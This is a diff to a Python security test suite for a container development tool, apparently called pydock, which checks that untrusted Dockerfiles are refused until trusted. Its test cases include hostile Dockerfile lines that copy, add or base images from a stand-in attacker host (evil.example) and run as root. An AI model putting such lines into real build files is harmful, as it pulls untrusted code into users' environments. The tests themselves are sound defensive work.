@@ -1105,9 +1105,9 @@ class Mounts(Attack):
         dockerfiles["an escape after a syntax line"] = "# syntax=x\n# escape=`\n" + trap_in(TEMPLATE.replace("\\\n", "`\n"), trap,
                 "RUN `\n# x\n  %s %s" % (cache, touch))
         dockerfiles["instead of the template's"] = TEMPLATE.replace("id=pydock,target=/cache", "id=%s%s,target=/cache" % (up, str(out).lstrip("/")))
-        dockerfiles["an image with more in it"] = "FROM somebody/else AS base\nUSER 0:0\n"
         for step in ("COPY --from=evil.example/%s /x /x" % BASE, "ADD https://evil.example/x.git /x"):
             dockerfiles[step] = trap_in(TEMPLATE, "", step)
+        dockerfiles["an image with more in it"] = "FROM evil.example/%s AS base\nUSER 0:0\n" % BASE
         self.record()
         for number, (title, text) in enumerate(dockerfiles.items()):
             with self.subTest(title):
@@ -1117,6 +1117,10 @@ class Mounts(Attack):
                     self.assertRegex(result.err, "hint: .*trust", result)
                 self.assertEqual(self.recorded("build"), [])
                 self.assertEqual(sorted(os.listdir(out)), [])
+        self.ok("export", "dev", "x.tar", cwd=folder)
+        for argv in (["lock", "dev"], ["update", "dev", "--python", "3.13"], ["create", "b", "--from", "x.tar"]):
+            self.fails(*argv, cwd=folder, hint="pydock trust ")
+        self.assertEqual(self.recorded("pull"), [], "an image that lies there is taken for others whose name ends so")
 
     def test_a_base_image_that_a_projects_settings_name(self) -> None:
         """The image brings the step, in ONBUILD, and the clone's pydock.conf the image."""
@@ -1152,7 +1156,8 @@ class Mounts(Attack):
             pydock.check_meant(pydock.Engine(ENGINE), good, names)
 
     def test_the_templates_own_builds_and_others_after_trust(self) -> None:
-        self.assertEqual(self.ok("run", "dev", "echo", "on", cwd=self.project("plain")), "on\n")
+        steers = TEMPLATE + "LABEL io.containers.autoupdate=registry PODMAN_SYSTEMD_UNIT=x.service\n"
+        self.assertEqual(self.ok("run", "dev", "echo", "on", cwd=self.project("plain", dockerfile=steers)), "on\n")
         folder = self.project("mine", dockerfile=TEMPLATE.replace("\nUSER $USER_UID", "\nRUN --mount=type=tmpfs,target=/t true\nUSER $USER_UID"))
         self.fails("build", "dev", cwd=folder, hint="trust")
         self.ok("trust", "-y", "dev", cwd=folder)
@@ -1811,7 +1816,7 @@ class Strangers(Attack):
                 (where / name).chmod(0o755)
         text = (ROOT / "install" / "linux.sh").read_text(encoding="utf-8")
         for cwd in (folder, folder.parent):
-            for path in ("/usr/bin:/bin", "%s:/usr/bin:/bin" % folder):
+            for path in ("/usr/bin:/bin", *["%s:/usr/bin:/bin" % folder] * (os.geteuid() == 0)):
                 subprocess.run(["bash", "-s", "--", "--prefix", str(self.base / "installed")], input=text, cwd=cwd,
                         env={**self.environ, "PATH": path, "https_proxy": "http://127.0.0.1:1"}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         text=True, timeout=TIME)
